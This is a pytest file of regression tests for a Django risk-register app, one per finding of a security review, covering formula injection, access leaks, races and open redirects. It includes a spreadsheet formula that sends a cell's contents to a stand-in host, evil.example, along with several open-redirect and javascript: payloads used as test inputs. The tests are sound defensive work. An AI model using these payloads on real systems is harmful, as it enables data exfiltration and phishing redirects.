"""Findings of the outside security review (one test per finding, each failing before its fix)."""

import csv
import io
import re
from datetime import timedelta

import pytest
from django.urls import reverse
from django.utils import timezone

from rounds import services as round_services
from tests.factories import make_risk

FORMULA_LEADS = ("=", "+", "-", "@")


# The review round's CSV: cells a spreadsheet would run as formulas ---------------------------

def test_round_csv_neutralises_formula_text(demo, client_for):
    today = timezone.localdate()
    review_round = round_services.open_round(meeting_date=today + timedelta(days=60), opens_on=today,
                                             deadline=today + timedelta(days=30), user=demo["author"])
    make_risk("31", user=demo["smt"], title='=HYPERLINK("http://evil.example/?"&A1,"Click")')
    response = client_for("author").get(reverse("rounds:csv", args=[review_round.pk]))
    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    row = next(row for row in rows if row[0] == "31")
    assert not any(cell.startswith(FORMULA_LEADS) for cell in row), row
    assert row[1] == "'=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")"


# A panel member's own question, made restricted: its answer is restricted-pack content --------

def test_panel_member_does_not_read_the_answer_of_a_restricted_item(demo, client_for):
    from panel.services import raise_question, update_item
    from publications import publishing
    from tests.factories import september_paper

    publication = publishing.publish_paper(paper_id=september_paper().pk, user=demo["author"])
    item = raise_question(publication=publication, text="What is the MPS budget gap?", user=demo["panel"])
    update_item(item_id=item.pk, expected_version=item.version, user=demo["author"], reason="Restricted matter",
                restricted=True, status="answered", answer="SECRET-ANSWER: twelve million")
    client = client_for("panel")
    detail = client.get(reverse("panel:detail", args=[item.pk]))
    assert detail.status_code == 200 and "What is the MPS budget gap?" in detail.content.decode()
    assert "SECRET-ANSWER" not in detail.content.decode()
    for url in (reverse("panel:list"), reverse("published:version", args=[publication.paper_id, 1])):
        assert "SECRET-ANSWER" not in client.get(url).content.decode()
    # Those who may read the restricted pack still read it.
    assert "SECRET-ANSWER" in client_for("smt").get(reverse("panel:detail", args=[item.pk])).content.decode()


# The backup archive holds password hashes and restricted papers: readable by its owner only ------

def test_the_backup_archive_is_readable_by_its_owner_only(demo, tmp_path):
    import os
    import stat

    from django.core.management import call_command

    previous = os.umask(0o022)  # a usual server umask: new files world-readable
    try:
        call_command("backup", output=str(tmp_path / "register.zip"), stdout=io.StringIO())
    finally:
        os.umask(previous)
    mode = stat.S_IMODE(os.stat(tmp_path / "register.zip").st_mode)
    assert mode & 0o077 == 0, oct(mode)


# A malformed Content-Length on the workbook upload: a 400 page, not a 500 ----------------------

def test_a_malformed_content_length_on_the_upload_is_not_a_500(client_for):
    client = client_for("smt")
    client.raise_request_exception = False
    response = client.post(reverse("risks:import"), {}, CONTENT_LENGTH="12abc")
    assert response.status_code < 500


# Sign-in: an unknown username is answered exactly as a known one, lock-out included ------------

@pytest.mark.django_db
def test_sign_in_does_not_tell_which_usernames_exist(client, demo, settings):
    def attempts(username):
        answers = []
        for _ in range(settings.AXES_FAILURE_LIMIT + 1):
            response = client.post(reverse("login"), {"username": username, "password": "wrong-password-123"})
            page = re.sub(r'name="csrfmiddlewaretoken" value="[^"]*"', "", response.content.decode())
            answers.append((response.status_code, page.replace(username, "USERNAME")))
        return answers

    assert attempts("panel") == attempts("nobody-by-this-name")


# Two confirmations of one risk at once (a double click): one is kept, the other is told --------

@pytest.mark.django_db(transaction=True)
@pytest.mark.postgres_only
def test_simultaneous_confirmations_keep_one_and_refuse_the_rest(demo):
    from django.db import connection

    from rounds.models import Confirmation
    from risks.models import Risk

    if connection.vendor != "postgresql":
        pytest.skip("A real race needs separate connections to a server database; run with DATABASE_URL=postgres://...")
    today = timezone.localdate()
    review_round = round_services.open_round(meeting_date=today + timedelta(days=60), opens_on=today,
                                             deadline=today + timedelta(days=30), user=demo["author"])
    risk = Risk.objects.open().order_by("pk").first()
    reviews_before = risk.reviews.count()
    threads = 6
    outcomes = _race(threads, lambda: round_services.confirm_unchanged(
        review_round=review_round, risk_id=risk.pk, user=demo["smt"], words="Nothing moved"))
    assert outcomes == ["kept"] + ["refused"] * (threads - 1)
    assert Confirmation.objects.filter(round=review_round, risk=risk).count() == 1
    assert risk.reviews.count() == reviews_before + 1


# A CSV whose cell is over the csv module's limit: a message, not a 500 on every preview --------

def test_a_csv_with_an_overlong_cell_is_refused_with_a_message(client_for):
    from django.core.files.uploadedfile import SimpleUploadedFile

    client = client_for("smt")
    client.raise_request_exception = False
    upload = SimpleUploadedFile("register.csv", b"Ref,Title\n1," + b"x" * 200_000 + b"\n", content_type="text/csv")
    assert client.post(reverse("risks:import"), {"file": upload}).status_code == 302
    response = client.get(reverse("risks:import_preview"))
    assert response.status_code < 500
    assert "too long" in response.content.decode()


# A choice of several given as a number too large for the database: a message, not a 500 --------

TOO_LARGE = "99999999999999999999999"


def test_an_out_of_range_secondary_category_is_refused_next_to_the_field(client_for):
    from risks.models import Risk
    from tests.edit_helpers import form_values

    risk = Risk.objects.open().order_by("pk").first()
    client = client_for("smt")
    client.raise_request_exception = False
    url = reverse("risks:edit", args=[risk.pk])
    data = {**form_values(client.get(url).content.decode(), action=url), "risk-secondary_categories": TOO_LARGE}
    response = client.post(url, data)
    assert response.status_code == 200
    assert "Choose a category from the list." in response.content.decode()


def test_an_out_of_range_risk_on_a_panel_item_is_refused_next_to_the_field(client_for):
    client = client_for("author")
    client.raise_request_exception = False
    response = client.post(reverse("panel:create"), {"risks": TOO_LARGE, "text": "Q", "kind": "question"})
    assert response.status_code == 200
    assert response.context["form"].has_error("risks")


def test_an_out_of_range_cutoff_date_is_refused_not_a_500(client_for, paper):
    from tests.edit_helpers import form_values

    client = client_for("author")
    client.raise_request_exception = False
    url = reverse("reports:edit", args=[paper.pk])
    data = {**form_values(client.get(url).content.decode(), action=url), "cutoff_date": "9999-12-31"}
    response = client.post(url, data)
    assert response.status_code == 200
    assert response.context["form"].has_error("cutoff_date")


# Sign-in's next= never leads off the site (regression) ------------------------------------------

@pytest.mark.parametrize("target", ["https://evil.example/", "//evil.example/", "/\\evil.example/",
                                    "javascript:alert(1)", "https:evil.example"])
def test_sign_in_never_redirects_off_the_site(client, demo, password, target):
    response = client.post(f"{reverse('login')}?next={target}",
                           {"username": "panel", "password": password, "next": target})
    assert response.status_code == 302 and response["Location"] == reverse("home")
    signed_in = client.get(reverse("login"), {"next": target})
    assert signed_in.status_code == 302 and signed_in["Location"] == reverse("home")


# Two "new paper" submissions for one meeting at once (a double click): one paper, the other told --

@pytest.mark.django_db(transaction=True)
@pytest.mark.postgres_only
def test_simultaneous_new_papers_for_one_meeting_make_one_and_refuse_the_rest(demo):
    import threading

    from django.core.exceptions import ValidationError
    from django.db import close_old_connections, connection

    from reports.models import Paper
    from reports.services import create_paper

    if connection.vendor != "postgresql":
        pytest.skip("A real race needs separate connections to a server database; run with DATABASE_URL=postgres://...")
    meeting = timezone.localdate() + timedelta(days=90)
    threads, outcomes = 6, []
    barrier = threading.Barrier(threads)

    def attempt():
        close_old_connections()
        try:
            barrier.wait()
            create_paper(user=demo["author"], reason="Double click", meeting_date=meeting, title="Risk report")
            outcomes.append("created")
        except ValidationError as error:
            outcomes.append("refused" if "meeting_date" in error.message_dict else repr(error))
        except Exception as error:  # an IntegrityError is a 500 for the second click
            outcomes.append(type(error).__name__)
        finally:
            connection.close()

    workers = [threading.Thread(target=attempt) for _ in range(threads)]
    for worker in workers:
        worker.start()
    for worker in workers:
        worker.join()
    assert sorted(outcomes) == ["created"] + ["refused"] * (threads - 1)
    assert Paper.objects.filter(meeting_date=meeting).count() == 1


# A panel member's question linked to risks: shown as the published paper printed them -----------

def test_panel_member_sees_the_risks_of_their_question_as_published_not_live(demo, client_for):
    from panel.services import raise_question, update_item
    from publications import publishing
    from risks import services as risk_services
    from tests.factories import funding, september_paper

    publication = publishing.publish_paper(paper_id=september_paper().pk, user=demo["author"])
    item = raise_question(publication=publication, text="How is funding tracked?", user=demo["panel"])
    risk = funding()
    risk_services.update_risk(risk_id=risk.pk, expected_version=risk.version, user=demo["smt"],
                              reason="Renamed", title="RENAMED-LIVE funding")
    new = make_risk("32", user=demo["smt"], title="SECRET-NEW-RISK")
    update_item(item_id=item.pk, expected_version=item.version, user=demo["author"], reason="Linked",
                risks=[risk, new])
    page = client_for("panel").get(reverse("panel:detail", args=[item.pk])).content.decode()
    assert "Adequate funding" in page
    assert "RENAMED-LIVE" not in page and "SECRET-NEW-RISK" not in page
    live = client_for("smt").get(reverse("panel:detail", args=[item.pk])).content.decode()
    assert "RENAMED-LIVE funding" in live and "SECRET-NEW-RISK" in live


# Double clicks on "link partner risk" and "schedule deep dive": one kept, the other told ---------

def _race(threads, action):
    import threading

    from django.core.exceptions import ValidationError
    from django.db import close_old_connections, connection

    outcomes = []
    barrier = threading.Barrier(threads)

    def attempt():
        close_old_connections()
        try:
            barrier.wait()
            action()
            outcomes.append("kept")
        except ValidationError:
            outcomes.append("refused")
        except Exception as error:  # an IntegrityError is a 500 for the second click
            outcomes.append(type(error).__name__)
        finally:
            connection.close()

    workers = [threading.Thread(target=attempt) for _ in range(threads)]
    for worker in workers:
        worker.start()
    for worker in workers:
        worker.join()
    return sorted(outcomes)


@pytest.mark.django_db(transaction=True)
@pytest.mark.postgres_only
def test_simultaneous_partner_links_and_deep_dives_keep_one(demo):
    from django.db import connection

    from panel.models import Alignment, DeepDive, Partner
    from panel.services import link_partner_risk, schedule_deep_dive
    from reports.services import create_paper
    from risks.models import Risk

    if connection.vendor != "postgresql":
        pytest.skip("A real race needs separate connections to a server database; run with DATABASE_URL=postgres://...")
    risk = Risk.objects.open().order_by("pk").first()
    partner = Partner.objects.create(name="Race partner")
    assert _race(4, lambda: link_partner_risk(risk=risk, partner=partner, ref="R-1", user=demo["smt"],
                                              reason="Linked")) == ["kept"] + ["refused"] * 3
    assert Alignment.objects.filter(risk=risk, partner_risk__ref="R-1").count() == 1
    paper = create_paper(user=demo["author"], reason="Next", meeting_date=timezone.localdate() + timedelta(days=90),
                         title="Risk report")
    assert _race(4, lambda: schedule_deep_dive(risk=risk, paper=paper, user=demo["author"],
                                               reason="Asked")) == ["kept"] + ["refused"] * 3
    assert DeepDive.objects.filter(risk=risk, paper=paper).count() == 1


@pytest.mark.django_db(transaction=True)
@pytest.mark.postgres_only
def test_two_risks_linking_one_new_partner_ref_at_once_share_one_record(demo):
    import threading

    from django.db import connection

    from panel.models import Alignment, Partner, PartnerRisk
    from panel.services import link_partner_risk
    from risks.models import Risk

    if connection.vendor != "postgresql":
        pytest.skip("A real race needs separate connections to a server database; run with DATABASE_URL=postgres://...")
    risks = iter(Risk.objects.open().order_by("pk")[:4])
    partner = Partner.objects.create(name="Race partner")
    lock = threading.Lock()

    def link_the_next_risk():
        with lock:
            risk = next(risks)
        link_partner_risk(risk=risk, partner=partner, ref="R-9", title="Shared", user=demo["smt"], reason="Linked")

    assert _race(4, link_the_next_risk) == ["kept"] * 4
    assert PartnerRisk.objects.filter(partner=partner, ref="R-9").count() == 1
    assert Alignment.objects.filter(partner_risk__ref="R-9").count() == 4


# A control character pasted into a risk's title (Word's line break is \x0b): the Excel and Word
# files are still written (it stopped the register's exports, the workbook and the paper's Word file,
# so publishing too) ------------------------------------------------------------------------------

def test_a_pasted_control_character_does_not_stop_the_spreadsheets_or_the_word_file(demo, client_for):
    import zipfile

    from openpyxl import load_workbook

    from reports.services import create_paper
    from risks.models import Risk
    from tests.edit_helpers import form_values
    from tests.factories import funding, september_paper

    client = client_for("smt")
    client.raise_request_exception = False
    risk = funding()
    url = reverse("risks:edit", args=[risk.pk])
    data = {**form_values(client.get(url).content.decode(), action=url),
            "risk-title": "Adequate\x0bfunding\x01", "change-reason": "Pasted from Word"}
    assert client.post(url, data).status_code == 302
    assert Risk.objects.get(pk=risk.pk).title == "Adequate\x0bfunding\x01"
    for name in ("risks:export_xlsx", "risks:workbook"):
        response = client.get(reverse(name))
        assert response.status_code == 200, name
        cells = [cell.value for row in load_workbook(io.BytesIO(response.content)).active.iter_rows() for cell in row]
        assert "Adequatefunding" in cells, name
    paper = create_paper(user=demo["author"], reason="Next", meeting_date=timezone.localdate() + timedelta(days=30),
                         title="Risk report", copy_from=september_paper())
    response = client.get(reverse("reports:file", args=[paper.pk, "docx"]))
    assert response.status_code == 200
    with zipfile.ZipFile(io.BytesIO(response.content)) as document:
        assert "Adequatefunding" in document.read("word/document.xml").decode()


@pytest.mark.django_db(transaction=True)
@pytest.mark.postgres_only
def test_simultaneous_new_risks_with_one_ref_make_one(demo):
    from django.db import connection

    from risks.models import Risk

    if connection.vendor != "postgresql":
        pytest.skip("A real race needs separate connections to a server database; run with DATABASE_URL=postgres://...")
    assert _race(4, lambda: make_risk("77", user=demo["smt"])) == ["kept"] + ["refused"] * 3
    assert Risk.objects.open().filter(ref="77").count() == 1
